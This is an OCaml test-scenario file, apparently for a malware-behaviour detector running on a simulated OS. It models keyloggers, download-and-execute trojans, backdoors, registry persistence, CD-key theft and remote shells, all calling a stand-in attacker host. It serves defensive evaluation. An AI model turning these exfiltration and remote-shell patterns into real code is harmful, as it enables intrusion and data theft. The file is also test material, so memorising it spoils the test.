open Asm

let group = "table1"

let high = Scenario.Malicious Secpert.Severity.High

let setup = Hth.Engine.setup

let send_close host s : Osim.Net.actor =
  { actor_host = host; script = [ Osim.Net.Send s; Osim.Net.Close ] }

let passive host : Osim.Net.actor = { actor_host = host; script = [] }

(* Shared emission helpers.  All use the standard scratch labels. *)

(* connect to a hard-coded address; connected fd left in the word [fdl] *)
let connect_hard u ~sa ~fdl =
  Runtime.sys_socket u;
  movl u (mlbl fdl) eax;
  Runtime.sys_connect u ~fd:(mlbl fdl) ~addr:(lbl sa)

(* bind a hard-coded LocalHost address, accept one connection *)
let serve_hard u ~sa ~lfdl ~cfdl =
  Runtime.sys_socket u;
  movl u (mlbl lfdl) eax;
  Runtime.sys_bind u ~fd:(mlbl lfdl) ~addr:(lbl sa);
  Runtime.sys_listen u ~fd:(mlbl lfdl);
  Runtime.sys_accept u ~fd:(mlbl lfdl);
  movl u (mlbl cfdl) eax

(* recv into __buf, length saved in [n] *)
let recv_buf u ~fdl =
  Runtime.sys_recv u ~fd:(mlbl fdl) ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax

(* write __buf[0..n) into a freshly created file named by label [name] *)
let drop_buf u ~name ~fdl =
  Runtime.sys_creat u ~path:(lbl name);
  movl u (mlbl fdl) eax;
  Runtime.sys_write u ~fd:(mlbl fdl) ~buf:(lbl "__buf") ~len:(mlbl "n");
  Runtime.sys_close u ~fd:(mlbl fdl)

let std_spaces u =
  Runtime.prologue u;
  space u "fd1" 4;
  space u "fd2" 4;
  space u "fd3" 4;
  space u "n" 4

(* ---------------- PWSteal.Tarno.Q ---------------- *)
(* Logs keystrokes to a hard-coded file, then periodically sends the
   collected file to a predefined address. *)
let pwsteal_exe =
  let u = create ~path:"/trojans/pwsteal" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "keyfile" "/tmp/.keys";
  Runtime.static_sockaddr u "collector" ~ip:(snd Common.evil_host) ~port:80;
  label u "_start";
  (* capture keystrokes *)
  Runtime.sys_read u ~fd:(imm 0) ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax;
  drop_buf u ~name:"keyfile" ~fdl:"fd1";
  (* later: read the log back and exfiltrate it *)
  Runtime.sys_open u ~path:(lbl "keyfile") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd1") eax;
  Runtime.sys_read u ~fd:(mlbl "fd1") ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax;
  connect_hard u ~sa:"collector" ~fdl:"fd2";
  Runtime.sys_send u ~fd:(mlbl "fd2") ~buf:(lbl "__buf") ~len:(mlbl "n");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let pwsteal =
  Scenario.make ~name:"PWSteal.Tarno.Q" ~group
    ~descr:"keylogger: hard-coded log file exfiltrated to a predefined \
            address"
    ~expected:high
    (setup ~programs:[ pwsteal_exe ] ~hosts:Common.all_hosts
       ~user_input:[ "bank password 1234\n" ]
       ~servers:[ fst Common.evil_host, 80, passive (fst Common.evil_host) ]
       ~main:"/trojans/pwsteal" ())

(* ---------------- Trojan.Lodeight.A ---------------- *)
let lodeight_exe =
  let u = create ~path:"/trojans/lodeight" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "dropname" "/tmp/beagle.exe";
  Runtime.static_sockaddr u "dl" ~ip:(snd Common.evil_host) ~port:80;
  Runtime.static_sockaddr u "bdoor" ~ip:Hth.Engine.localhost_ip ~port:1084;
  label u "_start";
  (* download a remote file and execute it *)
  connect_hard u ~sa:"dl" ~fdl:"fd1";
  recv_buf u ~fdl:"fd1";
  drop_buf u ~name:"dropname" ~fdl:"fd2";
  Runtime.sys_execve u ~path:(lbl "dropname") ();
  (* the dropped file is not a valid image; open the backdoor *)
  serve_hard u ~sa:"bdoor" ~lfdl:"fd1" ~cfdl:"fd2";
  recv_buf u ~fdl:"fd2";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let lodeight =
  Scenario.make ~name:"Trojan.Lodeight.A" ~group
    ~descr:"downloads and executes a remote file, opens a backdoor on \
            TCP 1084"
    ~expected:high
    (setup ~programs:[ lodeight_exe ] ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 80,
           send_close (fst Common.evil_host) "MZbeagle-worm-payload" ]
       ~incoming:[ 1084, send_close "attacker" "PING" ]
       ~main:"/trojans/lodeight" ())

(* ---------------- W32.Mytob.J@mm ---------------- *)
let mytob_exe =
  let u = create ~path:"/trojans/mytob" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "self" "/trojans/mytob";
  asciz u "syscopy" "/windows/system/mytob.exe";
  Runtime.static_sockaddr u "irc" ~ip:(snd Common.evil_host) ~port:6667;
  label u "_start";
  (* copy itself into the system folder *)
  Runtime.sys_open u ~path:(lbl "self") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd1") eax;
  Runtime.sys_read u ~fd:(mlbl "fd1") ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax;
  drop_buf u ~name:"syscopy" ~fdl:"fd2";
  (* join the predefined IRC channel and take commands *)
  connect_hard u ~sa:"irc" ~fdl:"fd3";
  recv_buf u ~fdl:"fd3";
  Runtime.sys_execve u ~path:(lbl "__buf") ();
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let mytob =
  Scenario.make ~name:"W32.Mytob.J@mm" ~group
    ~descr:"copies itself to the system folder; IRC channel commands \
            remote execution"
    ~expected:high
    (setup
       ~programs:[ mytob_exe; Common.trivial "/bin/true" ]
       ~files:[ "/trojans/mytob", "MZ-mytob-self-bytes" ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 6667,
           send_close (fst Common.evil_host) "/bin/true\000" ]
       ~main:"/trojans/mytob" ())

(* ---------------- Trojan.Vundo ---------------- *)
let vundo_exe =
  let u = create ~path:"/trojans/vundo" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "adware" "/windows/addons/vundo.dll";
  Runtime.static_sockaddr u "ads" ~ip:(snd Common.evil_host) ~port:80;
  label u "_start";
  (* download the adware component from a specified IP *)
  connect_hard u ~sa:"ads" ~fdl:"fd1";
  recv_buf u ~fdl:"fd1";
  drop_buf u ~name:"adware" ~fdl:"fd2";
  (* degrade performance *)
  movl u edi (imm 10);
  label u "spawn";
  Runtime.sys_fork u;
  testl u eax eax;
  jz u "child";
  decl u edi;
  jnz u "spawn";
  Runtime.print u "ad" "BUY NOW!!!\n";
  Runtime.sys_exit u 0;
  label u "child";
  Runtime.sys_sleep u 100;
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let vundo =
  Scenario.make ~name:"Trojan.Vundo" ~group
    ~descr:"drops a downloaded adware component and degrades performance"
    ~expected:high
    (setup ~programs:[ vundo_exe ] ~hosts:Common.all_hosts
       ~max_ticks:200_000
       ~servers:
         [ fst Common.evil_host, 80,
           send_close (fst Common.evil_host) "MZ-vundo-adware-component" ]
       ~main:"/trojans/vundo" ())

(* ---------------- Windows-update.com ---------------- *)
let winupdate_exe =
  let u = create ~path:"/trojans/winupdate" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ~needed:[ Libc.path ] ()
  in
  std_spaces u;
  asciz u "dropname" "/tmp/update.exe";
  space u "cfghost" 32;
  Runtime.static_sockaddr u "fake" ~ip:(snd Common.evil_host) ~port:80;
  Runtime.static_sockaddr u "cfg" ~ip:(snd Common.data_host) ~port:80;
  label u "_start";
  (* 1. download and execute an executable *)
  connect_hard u ~sa:"fake" ~fdl:"fd1";
  recv_buf u ~fdl:"fd1";
  drop_buf u ~name:"dropname" ~fdl:"fd2";
  Runtime.sys_execve u ~path:(lbl "dropname") ();
  (* 2. fetch configuration: the name of a third host *)
  connect_hard u ~sa:"cfg" ~fdl:"fd1";
  Runtime.sys_recv u ~fd:(mlbl "fd1") ~buf:(lbl "cfghost") ~len:(imm 31);
  (* 3. connect to the host the configuration names *)
  pushl u (lbl "cfghost");
  call u "gethostbyname";
  addl u esp (imm 4);
  testl u eax eax;
  jz u "fail";
  Runtime.build_sockaddr u ~ip_src:eax ~port:(imm 80);
  movl u (mlbl "fd3") eax;
  Runtime.sys_socket u;
  movl u (mlbl "fd2") eax;
  Runtime.sys_connect u ~fd:(mlbl "fd2") ~addr:(mlbl "fd3");
  recv_buf u ~fdl:"fd2";
  label u "fail";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let winupdate =
  Scenario.make ~name:"Windows-update.com" ~group
    ~descr:"fake update site: staged downloads through config-named hosts"
    ~expected:high
    (setup
       ~programs:[ winupdate_exe; Libc.image () ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 80,
           send_close (fst Common.evil_host) "MZ-stage1-trojan";
           fst Common.data_host, 80,
           send_close (fst Common.data_host) (fst Common.sink_host ^ "\000");
           fst Common.sink_host, 80,
           send_close (fst Common.sink_host) "MZ-custom-trojan" ]
       ~main:"/trojans/winupdate" ())

(* ---------------- W32/MyDoom.B ---------------- *)
let mydoom_exe =
  let u = create ~path:"/trojans/mydoom" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "regkey" "/windows/registry/Run.ctfmon";
  asciz u "regval" "ctfmon.dll";
  Runtime.static_sockaddr u "bdoor" ~ip:Hth.Engine.localhost_ip ~port:3127;
  Runtime.static_sockaddr u "relay" ~ip:(snd Common.sink_host) ~port:25;
  label u "_start";
  (* persistence: registry run key *)
  Runtime.sys_creat u ~path:(lbl "regkey");
  movl u (mlbl "fd1") eax;
  Runtime.sys_write u ~fd:(mlbl "fd1") ~buf:(lbl "regval") ~len:(imm 10);
  Runtime.sys_close u ~fd:(mlbl "fd1");
  (* backdoor + TCP proxy: accepted bytes are relayed outward *)
  serve_hard u ~sa:"bdoor" ~lfdl:"fd1" ~cfdl:"fd2";
  recv_buf u ~fdl:"fd2";
  connect_hard u ~sa:"relay" ~fdl:"fd3";
  Runtime.sys_send u ~fd:(mlbl "fd3") ~buf:(lbl "__buf") ~len:(mlbl "n");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let mydoom =
  Scenario.make ~name:"W32/MyDoom.B" ~group
    ~descr:"registry persistence, backdoor port, TCP proxy relay"
    ~expected:high
    (setup ~programs:[ mydoom_exe ] ~hosts:Common.all_hosts
       ~servers:[ fst Common.sink_host, 25, passive (fst Common.sink_host) ]
       ~incoming:[ 3127, send_close "attacker" "RELAY me anywhere" ]
       ~main:"/trojans/mydoom" ())

(* ---------------- Phatbot ---------------- *)
let phatbot_exe =
  let u = create ~path:"/trojans/phatbot" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "cdkeys" "/windows/keys.dat";
  Runtime.static_sockaddr u "p2p" ~ip:(snd Common.evil_host) ~port:4387;
  label u "_start";
  connect_hard u ~sa:"p2p" ~fdl:"fd1";
  (* command 1: steal CD keys *)
  Runtime.sys_open u ~path:(lbl "cdkeys") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd2") eax;
  Runtime.sys_read u ~fd:(mlbl "fd2") ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax;
  Runtime.sys_send u ~fd:(mlbl "fd1") ~buf:(lbl "__buf") ~len:(mlbl "n");
  (* command 2: run a remote-named command *)
  recv_buf u ~fdl:"fd1";
  Runtime.sys_execve u ~path:(lbl "__buf") ();
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let phatbot =
  Scenario.make ~name:"Phatbot" ~group
    ~descr:"p2p-controlled bot: steals CD keys, executes remote commands"
    ~expected:high
    (setup
       ~programs:[ phatbot_exe; Common.trivial "/bin/true" ]
       ~files:[ "/windows/keys.dat", "XXXX-YYYY-ZZZZ-GAME-KEY" ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 4387,
           { Osim.Net.actor_host = fst Common.evil_host;
             script =
               [ Osim.Net.Expect 23; Osim.Net.Send "/bin/true\000" ] } ]
       ~main:"/trojans/phatbot" ())

(* ---------------- Sendmail distribution Trojan ---------------- *)
let sendmail_exe =
  let u = create ~path:"/build/sendmail-build"
      ~kind:Binary.Image.Executable ~base:Common.exe_base ()
  in
  std_spaces u;
  Runtime.static_sockaddr u "c2" ~ip:(snd Common.evil_host) ~port:6667;
  label u "_start";
  Runtime.sys_fork u;
  testl u eax eax;
  jz u "payload";
  (* the parent looks like a normal build *)
  Runtime.print u "bmsg" "Compiling sendmail...\n";
  Runtime.sys_exit u 0;
  label u "payload";
  (* forked process gives the intruder a shell *)
  connect_hard u ~sa:"c2" ~fdl:"fd1";
  recv_buf u ~fdl:"fd1";
  Runtime.sys_execve u ~path:(lbl "__buf") ();
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let sendmail =
  Scenario.make ~name:"Sendmail Trojan" ~group
    ~descr:"build process forks a shell connected to port 6667"
    ~expected:high
    (setup
       ~programs:[ sendmail_exe; Common.trivial "/bin/sh" ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 6667,
           send_close (fst Common.evil_host) "/bin/sh\000" ]
       ~main:"/build/sendmail-build" ())

(* ---------------- TCP Wrappers Trojan ---------------- *)
let tcpwrap_exe =
  let u = create ~path:"/sbin/tcpd" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  Runtime.static_sockaddr u "listen421" ~ip:Hth.Engine.localhost_ip
    ~port:421;
  label u "_start";
  serve_hard u ~sa:"listen421" ~lfdl:"fd1" ~cfdl:"fd2";
  (* identify the compromised site: whoami / uname -a, modelled by the
     hardware-identification instruction *)
  cpuid u;
  movl u (mlbl "__buf") eax;
  movl u (mlbl ~off:4 "__buf") ebx;
  movl u (mlbl ~off:8 "__buf") ecx;
  movl u (mlbl ~off:12 "__buf") edx;
  Runtime.sys_send u ~fd:(mlbl "fd2") ~buf:(lbl "__buf") ~len:(imm 16);
  (* intruders from port 421 get a root shell *)
  recv_buf u ~fdl:"fd2";
  Runtime.sys_execve u ~path:(lbl "__buf") ();
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let tcpwrap =
  Scenario.make ~name:"TCP Wrappers Trojan" ~group
    ~descr:"backdoor wrapper: leaks system identity, remote root shell"
    ~expected:high
    (setup
       ~programs:[ tcpwrap_exe; Common.trivial "/bin/sh" ]
       ~incoming:
         [ 421,
           { Osim.Net.actor_host = "intruder";
             script = [ Osim.Net.Expect 16; Osim.Net.Send "/bin/sh\000" ] } ]
       ~main:"/sbin/tcpd" ())

let scenarios =
  [ pwsteal; lodeight; mytob; vundo; winupdate; mydoom; phatbot; sendmail;
    tcpwrap ]
